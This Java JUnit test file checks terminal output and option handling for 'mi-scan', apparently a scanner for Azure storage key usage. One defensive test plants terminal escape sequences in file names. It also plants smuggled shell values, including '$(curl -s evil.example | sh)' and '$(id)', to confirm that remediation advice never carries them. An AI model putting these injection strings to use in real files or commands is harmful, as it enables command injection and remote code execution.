package dev.miscan.cli;

import static dev.miscan.cli.CliRun.SAMPLES;
import static dev.miscan.cli.CliRun.run;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a hostile repository cannot do to the terminal that prints mi-scan's text output, and what a person at a
 * terminal gets that a pipe does not: the progress line, colour, a help text and an {@code explain} made for reading,
 * {@code --quiet} and {@code --verbose}, the closing summary by rule, and usage errors for options that make no sense.
 */
class TerminalOutputTest {
    private static final String SPRING_VULNERABLE = SAMPLES.resolve("spring-boot-app/vulnerable").toString();

    private static String key() {
        byte[] b = new byte[64];
        new SecureRandom().nextBytes(b);
        return Base64.getEncoder().encodeToString(b);
    }

    private static void assertInert(String output) {
        assertThat(output.chars().filter(c -> c == 0x1b || c == 0x07 || c == 0x9b || c == 0x202e || c == '\r'))
                .as("raw control characters in the output").isEmpty();
    }

    @Test
    void controlCharactersFromFileNamesAndContentAreEscaped(@TempDir Path dir) throws IOException {
        // a file name that sets the terminal title, content that clears the screen and reverses the text
        String name = "app\u001b]0;owned\u0007.properties";
        Files.writeString(dir.resolve(name), "# \u001b[2J\u202e comment\n"
                + "spring.cloud.azure.storage.blob.connection-string=DefaultEndpointsProtocol=https;"
                + "AccountName=contosodata;AccountKey=" + key() + ";EndpointSuffix=core.windows.net\r\n"
                + "azure.storage.account-name=contoso\u001b[31mdata\n");
        CliRun scan = run("scan", dir.toString(), "--fail-on", "none");
        assertThat(scan.exitCode()).as(scan.toString()).isZero();
        assertInert(scan.out());
        assertInert(scan.err());
        assertThat(scan.out()).contains("app\\x1b]0;owned\\x07.properties");

        CliRun fix = run("fix", dir.toString(), "--dry-run", "--force");
        assertInert(fix.out());
        assertInert(fix.err());
    }

    @Test
    void valuesFromTheScannedFilesNeverReachASuggestedCommandWithShellSyntax(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("main.bicep"), """
                resource st 'Microsoft.Storage/storageAccounts@2023-05-01' = {
                  name: 'st$(curl -s evil.example | sh)'
                  location: 'westeurope'
                  kind: 'StorageV2'
                  sku: { name: 'Standard_LRS' }
                  properties: {
                    allowSharedKeyAccess: true
                  }
                }
                """);
        Files.writeString(dir.resolve("app.properties"), "azure.storage.connection-string=DefaultEndpointsProtocol=https;"
                + "AccountName=x$(id);AccountKey=" + key() + ";EndpointSuffix=core.windows.net\n");
        Files.writeString(dir.resolve("Main.java"), "class Main { void m() { new com.azure.storage.blob."
                + "BlobServiceClientBuilder().endpoint(\"https://x`id`.blob.core.windows.net\").credential(new com.azure."
                + "storage.common.StorageSharedKeyCredential(\"x;id\", System.getenv(\"K\"))).buildClient(); } }\n");
        Path report = dir.resolveSibling(dir.getFileName() + ".json");
        CliRun scan = run("scan", dir.toString(), "--format", "json", "--output", report.toString(), "--fail-on", "none");
        assertThat(scan.exitCode()).as(scan.toString()).isZero();
        var findings = new com.fasterxml.jackson.databind.ObjectMapper().readTree(report.toFile()).get("findings");
        assertThat(findings.size()).isGreaterThanOrEqualTo(3);
        for (var f : findings) {
            var r = f.get("remediation");
            java.util.List<String> advice = new java.util.ArrayList<>();
            r.get("commands").forEach(c -> advice.add(c.asText()));
            advice.add(r.get("replacement").asText());
            for (String a : advice) {
                assertThat(a).as(f.get("ruleId").asText()).doesNotContain("$(").doesNotContain("`id`")
                        .doesNotContain("x;id").doesNotContain("| sh");
            }
        }
    }

    private static boolean hasEscapes(String s) {
        return s.indexOf('\u001b') >= 0 || s.indexOf('\r') >= 0;
    }

    @org.junit.jupiter.api.Nested
    class Progress {
        @org.junit.jupiter.api.AfterEach
        void restoreDelay() {
            ScanFeedback.delayNanos = java.util.concurrent.TimeUnit.SECONDS.toNanos(1);
        }

        @Test
        void notATerminal_noProgressAndNoEscapeCodesAnywhere() {
            ScanFeedback.delayNanos = 0;
            for (String format : java.util.List.of("text", "json", "sarif")) {
                CliRun r = run("scan", SAMPLES.toString(), "--format", format, "--fail-on", "none");
                assertThat(r.exitCode()).as(r.toString()).isZero();
                assertThat(hasEscapes(r.out())).as("escapes on stdout, %s", format).isFalse();
                assertThat(hasEscapes(r.err())).as("escapes on stderr, %s", format).isFalse();
                assertThat(r.err()).doesNotContain("files  ");
            }
            CliRun explain = run("explain", "MI-STORAGE-CONNSTR");
            assertThat(hasEscapes(explain.out() + explain.err())).isFalse();
            CliRun help = run("scan", "--help");
            assertThat(hasEscapes(help.out() + help.err())).isFalse();
        }

        @Test
        void aTerminal_drawsFilesDoneOfTotalAndMegabytesPerSecondInPlace_thenClearsTheLine() {
            ScanFeedback.delayNanos = 0;
            CliRun r = run(Terminal.INTERACTIVE, "scan", SAMPLES.toString(), "--fail-on", "none");

            assertThat(r.exitCode()).as(r.toString()).isZero();
            // "listing files..." until the count is known (a first draw while a cold JVM still loads the rules)
            assertThat(r.err()).matches("(?s)(\\r\\u001b\\[Kmi-scan: listing files\\.\\.\\.)*"
                    + "(\\r\\u001b\\[Kmi-scan: [0-9,]+/[0-9,]+ files  [0-9.]+ MB  [0-9.]+ MB/s)+\\r\\u001b\\[K");
            assertThat(r.err()).doesNotContain("\n");
            // the report itself is on standard output, coloured for the terminal
            assertThat(r.out()).contains("\u001b[31mERROR\u001b[0m").contains("Findings by rule:");
        }

        @Test
        void aScanShorterThanASecond_drawsNothing(@TempDir Path dir) throws IOException {
            Files.writeString(dir.resolve("a.properties"), "a=b\n");
            CliRun r = run(Terminal.INTERACTIVE, "scan", dir.toString());

            assertThat(r.exitCode()).as(r.toString()).isZero();
            assertThat(r.err()).isEmpty();
        }

        @Test
        void quiet_drawsNoProgressEvenOnATerminal() {
            ScanFeedback.delayNanos = 0;
            CliRun r = run(Terminal.INTERACTIVE, "scan", SAMPLES.toString(), "--fail-on", "none", "--quiet");

            assertThat(r.err()).isEmpty();
        }

        @Test
        void noColorAndNoColorVariable_keepTheReportPlainOnATerminal() {
            CliRun flag = run(Terminal.INTERACTIVE, "scan", SPRING_VULNERABLE, "--no-color");
            CliRun env = run(new Terminal(true, true, false), "scan", SPRING_VULNERABLE);

            assertThat(hasEscapes(flag.out())).isFalse();
            assertThat(hasEscapes(env.out())).isFalse();
        }

        @Test
        void terminalDetection_readsEachStreamsDevice(@TempDir Path fds) throws IOException {
            Files.createSymbolicLink(fds.resolve("1"), Path.of("/dev/null"));
            Files.createSymbolicLink(fds.resolve("2"), Path.of("/dev/pts/3"));

            Terminal t = Terminal.detect(java.util.Map.of("TERM", "xterm-256color"), fds, false);
            Terminal dumb = Terminal.detect(java.util.Map.of("TERM", "dumb"), fds, true);
            Terminal noColor = Terminal.detect(java.util.Map.of("NO_COLOR", "1"), fds, false);

            assertThat(t).isEqualTo(new Terminal(false, true, true));
            assertThat(dumb).isEqualTo(Terminal.NONE);
            assertThat(noColor.color()).isFalse();
            assertThat(Terminal.detect(java.util.Map.of(), fds.resolve("absent"), true)).isEqualTo(Terminal.INTERACTIVE);
        }
    }

    @org.junit.jupiter.api.Nested
    class QuietAndVerbose {
        @Test
        void quietText_isTheFindingsAlone() {
            CliRun full = run("scan", SPRING_VULNERABLE);
            CliRun quiet = run("scan", SPRING_VULNERABLE, "--quiet");

            assertThat(quiet.exitCode()).isEqualTo(full.exitCode()).isEqualTo(1);
            assertThat(quiet.err()).isEmpty();
            assertThat(quiet.out()).doesNotContain("Findings by rule:").doesNotContain(" finding(s)")
                    .doesNotContain("findings (");
            assertThat(full.out()).startsWith(quiet.out());
            assertThat(quiet.out().lines().filter(l -> l.contains("  ERROR  ")).count())
                    .isEqualTo(full.out().lines().filter(l -> l.contains("  ERROR  ")).count()).isPositive();
        }

        @Test
        void quietJsonToAFile_writesNothingToTheTerminal_butErrorsStillShow(@TempDir Path dir) {
            Path report = dir.resolve("r.json");
            CliRun quiet = run("scan", SPRING_VULNERABLE, "-q", "--format", "json", "--output", report.toString());
            CliRun error = run("scan", SPRING_VULNERABLE, "-q", "--config", dir.resolve("missing.yml").toString());

            assertThat(quiet.exitCode()).isEqualTo(1);
            assertThat(quiet.err()).isEmpty();
            assertThat(quiet.out()).isEmpty();
            assertThat(Files.isRegularFile(report)).isTrue();
            assertThat(error.exitCode()).isEqualTo(2);
            assertThat(error.err()).startsWith("mi-scan: ");
        }

        @Test
        void quietStillSaysWhyStrictFailed(@TempDir Path dir) throws IOException {
            // a text file over the size limit (a binary one would be left out silently, never a --strict failure)
            Files.writeString(dir.resolve("big.properties"), "x=y\n".repeat(2000));
            CliRun r = run("scan", dir.toString(), "--quiet", "--strict", "--max-file-size", "1k");

            assertThat(r.exitCode()).isEqualTo(3);
            assertThat(r.err()).startsWith("mi-scan: --strict:");
            assertThat(r.out()).isEmpty();
        }

        @Test
        void verbose_printsTheSettingsAndEachFileWithItsTime_andWhySkippedFilesWereSkipped(@TempDir Path dir)
                throws IOException {
            Files.writeString(dir.resolve("a.properties"), "a=b\n");
            Files.writeString(dir.resolve("b.yaml"), "b: c\n");
            Files.write(dir.resolve("big.properties"), "x=y\n".repeat(1000).getBytes(java.nio.charset.StandardCharsets.UTF_8));

            CliRun r = run("scan", dir.toString(), "--verbose", "--max-file-size", "1k", "--threads", "1");

            assertThat(r.exitCode()).as(r.toString()).isZero();
            java.util.List<String> lines = r.err().lines().toList();
            assertThat(lines).anyMatch(l -> l.startsWith("mi-scan: config: none"))
                    .anyMatch(l -> l.startsWith("mi-scan: baseline: none"))
                    .anyMatch(l -> l.startsWith("mi-scan: fail-on: error; max file size: 1024 bytes; threads: 1"));
            assertThat(lines).anyMatch(l -> l.matches("mi-scan: +[0-9.]+ ms +4 B  a\\.properties"))
                    .anyMatch(l -> l.matches("mi-scan: +[0-9.]+ ms +5 B  b\\.yaml"))
                    .anyMatch(l -> l.matches("mi-scan: +[0-9.]+ ms +0 B  big\\.properties  \\(skipped: .*--max-file-size.*\\)"));
            assertThat(lines).anyMatch(l -> l.startsWith("mi-scan: 3 file(s), 9 B in "));
        }

        @Test
        void verboseHistory_listsTheFileVersions(@TempDir Path dir) throws Exception {
            try (org.eclipse.jgit.api.Git git = org.eclipse.jgit.api.Git.init().setDirectory(dir.toFile())
                    .setInitialBranch("main").call()) {
                Files.writeString(dir.resolve("app.properties"), "a=b\n");
                git.add().addFilepattern("app.properties").call();
                git.commit().setMessage("one").setSign(false).setAuthor("A", "a@example.com")
                        .setCommitter("A", "a@example.com").call();
            }
            CliRun r = run("history", dir.toString(), "-v");

            assertThat(r.exitCode()).as(r.toString()).isZero();
            assertThat(r.err().lines()).anyMatch(l -> l.matches("mi-scan: +[0-9.]+ ms +4 B  app\\.properties"));
        }

        @org.junit.jupiter.params.ParameterizedTest
        @org.junit.jupiter.params.provider.ValueSource(strings = {"scan", "history"})
        void quietAndVerboseTogether_isAUsageError(String command) {
            CliRun r = run(command, "--quiet", "--verbose", SPRING_VULNERABLE);

            assertThat(r.exitCode()).isEqualTo(2);
            assertThat(r.err()).startsWith("mi-scan: --quiet and --verbose cannot be combined");
        }
    }

    @org.junit.jupiter.api.Nested
    class SummaryByRule {
        @Test
        void theTextReportEndsWithOneLinePerRule_errorsFirst_thenTheTotals() {
            CliRun r = run("scan", SAMPLES.toString(), "--fail-on", "none");

            java.util.List<String> lines = r.out().lines().toList();
            int start = lines.indexOf("Findings by rule:");
            assertThat(start).isPositive();
            java.util.List<String> rows = lines.subList(start + 1, lines.size() - 1);
            assertThat(rows).allMatch(l -> l.matches("  MI-[A-Z0-9-]+ +[0-9]+ (error|warning|note)s?(, .*)?"));
            java.util.List<Integer> levels = rows.stream()
                    .map(l -> l.contains(" error") ? 0 : l.contains(" warning") ? 1 : 2).toList();
            assertThat(levels).isSorted();
            int sum = rows.stream().mapToInt(l -> Integer.parseInt(l.strip().split(" +")[1])).sum();
            assertThat(lines.get(lines.size() - 1)).startsWith(sum + " findings (");
            assertThat(rows).anyMatch(l -> l.matches("  MI-STORAGE-CONNSTR +[0-9]+ errors?"));
        }

        @Test
        void aCleanScanHasNoRuleLines(@TempDir Path dir) {
            CliRun r = run("scan", dir.toString());

            assertThat(r.out()).doesNotContain("Findings by rule:");
        }
    }

    @org.junit.jupiter.api.Nested
    class OptionValidation {
        @org.junit.jupiter.params.ParameterizedTest
        @org.junit.jupiter.params.provider.ValueSource(strings = {"0", "-1", "257", "two", "1.5", ""})
        void threadsOutOfRange_isAUsageError(String threads) {
            for (String command : java.util.List.of("scan", "history")) {
                CliRun r = run(command, "--threads", threads, SPRING_VULNERABLE);

                assertThat(r.exitCode()).as("%s --threads '%s': %s", command, threads, r).isEqualTo(2);
                assertThat(r.err()).startsWith("mi-scan: ").contains("--threads");
                assertThat(r.out()).isEmpty();
            }
            CliRun baseline = run("baseline", "create", "--threads", threads, SPRING_VULNERABLE);
            assertThat(baseline.exitCode()).as(baseline.toString()).isEqualTo(2);
        }

        @Test
        void oneThreadScans() {
            CliRun r = run("scan", "--threads", "1", SPRING_VULNERABLE);

            assertThat(r.exitCode()).as(r.toString()).isEqualTo(1);
        }

        @Test
        void aMaximumFileSizeOfZero_wouldSkipEverything_andIsAUsageError() {
            CliRun r = run("scan", "--max-file-size", "0", SPRING_VULNERABLE);

            assertThat(r.exitCode()).isEqualTo(2);
            assertThat(r.err()).startsWith("mi-scan: invalid --max-file-size '0': it would skip every file");
        }

        @Test
        void anUnreadableFileNamedOnTheCommandLine_isAScanError_inOneLine(@TempDir Path dir) throws Exception {
            Path file = dir.resolve("app.properties");
            Files.writeString(file, "a=b\n");
            Path folder = Files.createDirectories(dir.resolve("locked"));
            Files.setPosixFilePermissions(file, java.util.Set.of());
            Files.setPosixFilePermissions(folder, java.util.Set.of());
            try {
                for (Path p : java.util.List.of(file, folder)) {
                    GitFixtures.Result r = asUnprivileged(p);
                    assertThat(r.exitCode()).as(r.toString()).isEqualTo(3);
                    assertThat(r.output()).isEqualTo("mi-scan: cannot read " + p + ": permission denied\n");
                }
            } finally {
                Files.setPosixFilePermissions(folder, java.nio.file.attribute.PosixFilePermissions.fromString("rwx------"));
            }
        }

        /**
         * {@code mi-scan scan PATH} in a process that file permissions apply to: as root (whom they do not bind),
         * without the capabilities that override them.
         */
        private GitFixtures.Result asUnprivileged(Path path) throws Exception {
            java.util.List<String> command = new java.util.ArrayList<>();
            // still readable after chmod 000: this process may ignore file permissions (root, CAP_DAC_OVERRIDE)
            boolean privileged = Files.isReadable(path);
            if (privileged) {
                org.junit.jupiter.api.Assumptions.assumeTrue(GitFixtures.onPath("setpriv"), "setpriv is needed as root");
                command.addAll(java.util.List.of("setpriv", "--bounding-set", "-dac_override,-dac_read_search"));
            }
            command.addAll(java.util.List.of(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                    "-XX:TieredStopAtLevel=1", "-cp", System.getProperty("java.class.path"), "dev.miscan.cli.Main",
                    "scan", path.toString()));
            return GitFixtures.exec(path.getParent(), java.util.Map.of(), command.toArray(new String[0]));
        }

        @Test
        void theExitCodeTableInTheReadmeNamesAnUnreadablePath() throws IOException {
            String readme = Files.readString(Path.of("..", "README.md"));

            assertThat(readme).contains("| 3 | scan error (").contains("a file or directory named on the command line "
                    + "that cannot be read");
        }
    }

    @org.junit.jupiter.api.Nested
    class Explain {
        @Test
        void rendersMarkdownForReading_withoutRawMarkers() {
            CliRun r = run("explain", "MI-STORAGE-CONNSTR");

            assertThat(r.exitCode()).as(r.toString()).isZero();
            java.util.List<String> lines = r.out().lines().toList();
            assertThat(lines).noneMatch(l -> l.startsWith("#")).noneMatch(l -> l.contains("`"))
                    .noneMatch(l -> l.contains("**"));
            assertThat(lines.get(0)).isEqualTo("MI-STORAGE-CONNSTR (storage-account-key-connection-string)");
            assertThat(lines.get(1)).matches("=+").hasSize(lines.get(0).length());
            assertThat(lines).contains("How to fix", "Roles", "Commands");
            // code is indented by four spaces, never wrapped
            assertThat(lines).anyMatch(l -> l.startsWith("    BlobServiceClient blobServiceClient = "))
                    .anyMatch(l -> l.startsWith("    az role assignment create "));
            assertThat(lines.stream().filter(l -> !l.startsWith("    "))).allMatch(l -> l.length() <= 80);
        }

        @Test
        void onATerminal_headingsAndBoldAreBold_codeIsColoured() {
            CliRun r = run(Terminal.INTERACTIVE, "explain", "MI-STORAGE-CONNSTR");

            assertThat(r.out()).startsWith("\u001b[1mMI-STORAGE-CONNSTR (storage-account-key-connection-string)\u001b[0m")
                    .contains("\u001b[1mHOW TO FIX\u001b[0m").contains("\u001b[36mAccountKey=\u001b[0m")
                    .doesNotContain("`").doesNotContain("**");
        }

        @org.junit.jupiter.params.ParameterizedTest
        @org.junit.jupiter.params.provider.ValueSource(strings = {"MI-STORAGE-CONNSTR", "mi-storage-connstr",
            "storage-account-key-connection-string", "Storage-Account-Key-Connection-String", " MI-STORAGE-CONNSTR "})
        void acceptsTheIdAndTheNameItsHeadingShows_inAnyCase(String asked) {
            CliRun r = run("explain", asked);

            assertThat(r.exitCode()).as(r.toString()).isZero();
            assertThat(r.out()).startsWith("MI-STORAGE-CONNSTR (storage-account-key-connection-string)\n");
        }

        @Test
        void everyRuleIsFoundByTheNameInItsOwnHeading() {
            for (var rule : dev.miscan.core.engine.RuleRegistry.load().rules()) {
                CliRun byId = run("explain", rule.id());
                String heading = byId.out().lines().findFirst().orElseThrow();
                String name = heading.substring(heading.indexOf('(') + 1, heading.lastIndexOf(')'));
                CliRun byName = run("explain", name.toUpperCase(java.util.Locale.ROOT));

                assertThat(byName.exitCode()).as(name).isZero();
                assertThat(byName.out()).as(name).isEqualTo(byId.out());
            }
        }

        @Test
        void aFormerIdIsAccepted() {
            CliRun r = run("explain", "mi-java-cosmos-key-auth");

            assertThat(r.exitCode()).isZero();
            assertThat(r.out()).startsWith("MI-JAVA-COSMOS-KEY-AUTH was renamed: it is now MI-COSMOS-KEY-AUTH.");
        }

        @org.junit.jupiter.params.ParameterizedTest
        @org.junit.jupiter.params.provider.CsvSource({
            "MI-STORAGE-CONSTR, MI-STORAGE-CONNSTR",
            "mi-storage-connstring, MI-STORAGE-CONNSTR",
            "storage-account-key-connection-strng, storage-account-key-connection-string",
            "MI-JAVA-STORAGE-KY, MI-JAVA-STORAGE-KEY"})
        void aTypoGetsDidYouMean(String asked, String suggested) {
            CliRun r = run("explain", asked);

            assertThat(r.exitCode()).isEqualTo(2);
            assertThat(r.err().lines().findFirst().orElse("")).isEqualTo("mi-scan: unknown rule '" + asked
                    + "'; did you mean " + suggested + "? ('mi-scan rules' lists them)");
        }

        @Test
        void nothingClose_noSuggestion() {
            CliRun r = run("explain", "zz");

            assertThat(r.err().lines().findFirst().orElse("")).isEqualTo("mi-scan: unknown rule 'zz' ('mi-scan rules'"
                    + " lists them)");
        }

        @Test
        void markdownPrintsTheSourceItself() {
            CliRun r = run("explain", "--markdown", "MI-STORAGE-CONNSTR");

            assertThat(r.out()).startsWith("# MI-STORAGE-CONNSTR (storage-account-key-connection-string)\n")
                    .contains("## How to fix").contains("```java");
        }
    }
}
